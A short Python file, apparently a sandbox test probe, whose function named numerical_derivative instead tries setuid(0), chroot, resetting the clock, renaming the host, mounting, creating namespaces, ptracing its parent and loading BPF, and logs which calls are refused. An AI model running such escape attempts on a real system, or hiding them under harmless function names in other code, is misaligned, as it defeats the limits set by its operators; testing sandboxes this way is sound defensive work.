"""Attack: regain privileges or change the machine: setuid(0), chroot, mount, set the
clock, set the host name, create namespaces (a user namespace needs no privilege on
this kernel), ptrace the parent, load a BPF program."""

import ctypes
import os
import socket
import time


def attempt(results, name, action):
    try:
        action()
        results.append(f"{name} done")
    except OSError as exc:
        results.append(f"{name} {type(exc).__name__}")


def numerical_derivative(f, x, h=1e-5):
    libc = ctypes.CDLL(None, use_errno=True)

    def checked(value):
        if value < 0:
            raise OSError(ctypes.get_errno(), "failed")

    results = []
    attempt(results, "setuid", lambda: os.setuid(0))
    attempt(results, "chroot", lambda: os.chroot("/tmp"))
    attempt(results, "clock", lambda: time.clock_settime(time.CLOCK_REALTIME, 0.0))
    attempt(results, "hostname", lambda: socket.sethostname("pwned"))
    attempt(results, "mount", lambda: checked(libc.mount(b"none", b"/tmp", b"tmpfs", 0, None)))
    attempt(results, "netns", lambda: checked(libc.unshare(0x40000000)))
    attempt(results, "userns", lambda: checked(libc.unshare(0x10000000)))
    attempt(results, "ptrace", lambda: checked(libc.ptrace(16, os.getppid(), None, None)))
    attempt(results, "bpf", lambda: checked(libc.syscall(321, 0, None, 0)))
    if os.fork() == 0:  # a child that tries to leave through a new namespace at fork time
        os._exit(0 if libc.syscall(56, 0x10000000 | 17, None, None, None, 0) < 0 else 1)
    _, status = os.wait()
    results.append(
        "clone-userns " + ("refused" if os.waitstatus_to_exitcode(status) == 0 else "done")
    )
    return results


def gradient_step(x, grad, learning_rate):
    return x - learning_rate * grad
